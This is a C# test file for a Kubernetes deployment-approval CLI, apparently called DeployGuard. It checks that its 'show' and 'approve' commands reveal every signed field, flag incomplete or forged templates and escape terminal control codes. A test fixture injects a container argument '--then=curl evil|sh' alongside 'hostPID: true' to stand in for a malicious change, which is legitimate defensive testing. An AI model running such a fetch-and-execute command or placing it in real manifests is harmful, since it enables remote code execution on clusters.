using System.IO.Compression;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace DeployGuard.Cli.Tests;

/// <summary>
/// <c>deployguard show</c>, and what <c>approve</c> shows before the confirmation: everything that is signed, or a clear note that it is
/// incomplete.
/// </summary>
public class ShowTests
{
    private const string Before =
        """{"spec":{"containers":[{"args":["--config=/etc/web/config.yaml --listen=:8080 --log-level=info --log-format=json"],"name":"web"}]}}""";
    private const string After =
        """{"spec":{"containers":[{"args":["--config=/etc/web/config.yaml --listen=:8080 --log-level=info --log-format=json --then=curl evil|sh"],"name":"web"}],"hostPID":true}}""";

    private RecordsServer? _server;

    private RecordsServer Server => _server ?? throw new InvalidOperationException("not started");

    [SetUp]
    public async Task StartAsync()
    {
        _server = await RecordsServer.StartAsync();
        Server.Hash = HashOf(After);
        Server.Template = Template(Side(After), Side(Before));
        Server.Others.Add(Former(HashOf(Before)));
    }

    [TearDown]
    public async Task StopAsync() => await Server.DisposeAsync();

    [TestCase("show")]
    [TestCase("approve")]
    public async Task EverythingThatIsSignedIsShown(string command)
    {
        var run = await RunAsync(command);

        Assert.That((run.ExitCode, run.Error), Is.EqualTo((0, "")));
        Assert.That(
            run.Output,
            Does.Contain(
                $"""
                Differences from revision {HashOf(Before)}, which ran when the change was requested at 2026-11-27T06:00:00Z: 2 fields
                Access to the node
                  + spec.hostPID: true
                Command and arguments
                  ~ spec.containers[web].args
                      - * --config=/etc/web/config.yaml --listen=:8080 --log-level=info --log-format=json
                      + * --config=/etc/web/config.yaml --listen=:8080 --log-level=info --log-format=json --then=curl evil|sh
                """
            )
        );
        Assert.That(run.Output, Does.Not.Contain("INCOMPLETE"));
    }

    /// <summary>A pager takes the text off the screen before the question.</summary>
    [Test]
    public void TheQuestionRepeatsWhatChanges()
    {
        var view = Views.TemplateView.Of(
            View(HashOf(After)),
            new Views.StoredTemplate(JsonSerializer.SerializeToElement(Server.Template), ""),
            false,
            [View(HashOf(Before))]
        );
        var target = VoteTarget.Of(View(HashOf(After)), view, isFull: false);

        Assert.That(
            Views.VoteQuestion.Of(Core.Approvals.Decision.Approve, [target]),
            Is.EqualTo("\nChanges: spec.hostPID, spec.containers[web].args\nApprove exactly this change?")
        );
    }

    private static Views.ChangeView View(string hash) => new(JsonSerializer.SerializeToElement(Former(hash)));

    [Test]
    public async Task PrivilegesThatTheFormerRevisionHadAreShownToo()
    {
        var before = Before.Replace("}]}}", "}],\"hostNetwork\":true}}", StringComparison.Ordinal);
        var after = After.Replace("\"hostPID\":true", "\"hostNetwork\":true", StringComparison.Ordinal);
        Server.Hash = HashOf(after);
        Server.Template = Template(Side(after), Side(before));
        Server.Others.Add(Former(HashOf(before)));

        var output = (await RunAsync("show")).Output;

        Assert.That(output, Does.Contain(": 1 field\nCommand and arguments\n"));
        Assert.That(output, Does.Contain("Signed too, and as in the revision before:\n    spec.hostNetwork: true"));
    }

    /// <summary>Its fields would be signed without being shown.</summary>
    [TestCase("a break-glass admitted it", "nobody has approved revision ")]
    [TestCase("carol rejected it", "carol rejected revision ")]
    [TestCase("it was refused", "revision v2:HASH, which ran before it, was never admitted")]
    [TestCase("no record", "no Change records revision ")]
    [TestCase("rolled back", "revision v2:HASH, which ran when the change was requested, runs no longer")]
    public async Task ARevisionThatNobodyVouchesForIsNoBase(string what, string because)
    {
        var status = Server.Others[0]["status"]!.AsObject();
        switch (what)
        {
            case "a break-glass admitted it":
                status["breakGlass"] = JsonNode.Parse(
                    """[{"name": "web-1", "by": "olga", "incident": "I", "reason": "R", "admittedRevision": true}]"""
                );
                break;
            case "carol rejected it":
                status["approvals"] = JsonNode.Parse(
                    """[{"name": "v", "approver": "carol", "decision": "Reject", "at": "2026-11-27T06:00:00Z"}]"""
                );
                break;
            case "it was refused":
                status["phase"] = "Rejected";
                break;
            case "no record":
                Server.Others.Clear();
                break;
            default:
                Server.Phase = "Pending";
                Server.RunsNow = HashOf("{}");
                break;
        }

        var output = (await RunAsync("show")).Output;

        Assert.That(
            output,
            Does.Contain($"The complete template, because {because.Replace("v2:HASH", HashOf(Before), StringComparison.Ordinal)}")
        );
        Assert.That(output, Does.Contain("  + spec.containers[web].name: web"));
    }

    /// <summary>Somebody who withdrew their veto vouches for it again, and so does a workload that still runs it.</summary>
    [Test]
    public async Task AWithdrawnVetoAndTheRunningRevisionLeaveTheBase()
    {
        Server.Phase = "Pending";
        Server.RunsNow = HashOf(Before);
        Server.Others[0]["status"]!["approvals"] = JsonNode.Parse(
            """[{"name": "v", "approver": "carol", "decision": "Reject", "at": "2026-11-27T06:00:00Z", "withdrawnAt": "2026-11-27T07:00:00Z"}]"""
        );

        Assert.That((await RunAsync("show")).Output, Does.Contain($"Differences from revision {HashOf(Before)}"));
    }

    [Test]
    public async Task CompleteTemplateOfANewWorkloadIsShown()
    {
        Server.Template = Template(Side(After), null);

        Assert.That(
            (await RunAsync("show")).Output,
            Does.Contain("The complete template, because nothing ran before it: 3 fields").And.Contain("  + spec.containers[web].name: web")
        );
    }

    [Test]
    public async Task AnUnknownPreviousRevisionIsReported()
    {
        Server.Template = Template(Side(After), null);
        Server.Template["spec"]!["beforeIsUnknown"] = true;

        Assert.That(
            (await RunAsync("show")).Output,
            Does.Contain("The complete template, because the revision before it is not on record")
        );
    }

    [Test]
    public async Task FieldsOutsideTheHashAreShownSeparately()
    {
        var after = Side(After);
        after["leftOut"] = Pack("""{"annotations":{"kubectl.kubernetes.io/restartedAt":"\u001b[2Jnow"}}""");
        Server.Template = Template(after, Side(Before));

        Assert.That(
            (await RunAsync("show")).Output,
            Does.EndWith(
                """
                Not signed (the hash leaves it out, and it may change without a new approval)
                  + annotations[kubectl.kubernetes.io/restartedAt]: <ESC>[2Jnow
                """
            )
        );
    }

    [Test]
    public async Task AnIncompleteChangeIsMarkedAndSaysHowToSeeItInFull()
    {
        Server.Template = null;
        Server.Diff = ["spec.hostPID: (absent) -> true\u001b[2K"];

        var run = await RunAsync("show");

        Assert.That(run.ExitCode, Is.EqualTo(1));
        Assert.That(
            run.Output,
            Does.Contain("INCOMPLETE: the template cannot be shown in full. An approval signs all of it, also what is missing here.")
                .And.Contain("  spec.hostPID: (absent) -> true<ESC>[2K")
                .And.EndWith(
                    $"ask the requester to apply the change again, then run: kubectl deployguard show {RecordsServer.Change} -n shop"
                )
        );
    }

    [Test]
    public async Task AMissingPermissionToReadTheTemplateIsReported()
    {
        Server.ShowsTemplates = false;

        Assert.That(
            (await RunAsync("show")).Output,
            Does.Contain("You may not read the complete template: changetemplates.deployguard.io is forbidden")
        );
    }

    /// <summary>The template is on record: another request would change nothing.</summary>
    [Test]
    public async Task AMissingPermissionIsNotBlamedOnTheRequester()
    {
        Server.ShowsTemplates = false;

        var output = (await RunAsync("show")).Output;

        Assert.That(output, Does.Contain("ClusterRole deployguard-viewer gives this right").And.Not.Contain("ask the requester"));
        Assert.That(
            output,
            Does.Contain(
                "kubectl -n shop create rolebinding deployguard-viewer-alice --clusterrole=deployguard-viewer --user='alice'\n"
                    + $"To see it in full, get that right, then run: kubectl deployguard show {RecordsServer.Change} -n shop"
            )
        );
    }

    /// <summary>It was never requested, so nobody can approve it and nothing is missing.</summary>
    [Test]
    public async Task AnAdoptedRevisionNeedsNoApproval()
    {
        Server.Template = null;
        Server.Adopted = true;

        var run = await RunAsync("show");

        Assert.That(run.ExitCode, Is.Zero);
        Assert.That(
            run.Output,
            Does.EndWith(
                    "Adopted: it ran before an enforcing policy first matched its namespace. It needs no approval, and its template is not on record."
                )
                .And.Not.Contain("INCOMPLETE")
        );
    }

    [Test]
    public async Task ATemplateThatIsTooLargeIsReportedAsSuch()
    {
        Server.Template = Template(
            new JsonObject
            {
                ["templateHash"] = HashOf(After),
                ["bytes"] = 900 * 1024,
                ["tooLarge"] = true,
            },
            null
        );

        Assert.That(
            (await RunAsync("approve")).Output,
            Does.Contain("The template is too large to record (900 KiB), so it cannot be shown.")
        );
    }

    [Test]
    public async Task ATemplateOfAnotherRevisionIsNotShown()
    {
        Server.Hash = HashOf("{}");

        Assert.That(
            (await RunAsync("show")).Output,
            Does.Contain("The ChangeTemplate on record is of another revision.").And.Not.Contain("hostPID")
        );
    }

    [Test]
    public async Task ATemplateThatDoesNotMatchItsHashIsNotShown()
    {
        var forged = Side(Before);
        forged["templateHash"] = HashOf(After);
        Server.Template = Template(forged, null);

        Assert.That((await RunAsync("show")).Output, Does.Contain("The template on record does not match the hash of this Change."));
    }

    private Task<CommandRun> RunAsync(string command) =>
        Server.RunAsync([command, RecordsServer.Change, .. command == "approve" ? (string[])["--yes"] : []]);

    /// <summary>The Change of the revision that ran before.</summary>
    private static JsonObject Former(string hash) =>
        JsonNode
            .Parse(
                $$"""
                {"metadata": {"name": "former", "namespace": "shop"},
                 "spec": {"workload": {"apiGroup": "apps", "kind": "Deployment", "name": "web"}, "templateHash": "{{hash}}", "images": []},
                 "status": {"phase": "Proven"} }
                """
            )
            ?.AsObject()
        ?? [];

    private static JsonObject Template(JsonObject after, JsonObject? before)
    {
        var spec = new JsonObject { ["at"] = "2026-11-27T06:00:00Z", ["after"] = after };
        if (before is not null)
        {
            spec["before"] = before;
        }

        return new JsonObject
        {
            ["metadata"] = new JsonObject { ["name"] = RecordsServer.Change },
            ["spec"] = spec,
        };
    }

    private static JsonObject Side(string json) =>
        new()
        {
            ["templateHash"] = HashOf(json),
            ["bytes"] = json.Length,
            ["template"] = Pack(json),
        };

    private static string Pack(string text)
    {
        using var packed = new MemoryStream();
        using (var gzip = new GZipStream(packed, CompressionLevel.Optimal, leaveOpen: true))
        {
            gzip.Write(Encoding.UTF8.GetBytes(text));
        }

        return Convert.ToBase64String(packed.ToArray());
    }

    private static string HashOf(string json) => $"v2:{Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes(json)))}";
}
